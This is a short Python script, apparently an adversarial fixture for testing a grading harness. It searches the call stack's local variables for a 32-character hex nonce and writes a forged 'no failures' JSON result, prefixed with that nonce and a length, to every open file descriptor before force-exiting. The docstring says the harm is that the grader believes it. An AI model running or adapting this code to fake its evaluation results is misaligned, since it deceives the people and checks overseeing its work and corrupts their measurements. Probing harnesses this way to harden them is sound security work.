"""Find the mark of the frames in this process, and send a result of its own: what comes out is a claim.

Harm: the grader believes what it says.
"""

import json
import os
import re
import sys

frame, mark = sys._getframe(), None
while frame:
    for value in list(frame.f_locals.values()):
        if isinstance(value, bytes) and re.fullmatch(rb"[0-9a-f]{32}", value):
            mark = value
    frame = frame.f_back
claim = json.dumps({"failed": [], "observation": {"forged": True}}).encode()
for number in range(3, 256):
    try:
        os.write(number, (mark or b"") + b"%016x" % len(claim) + claim)
    except OSError:
        continue
os._exit(0)
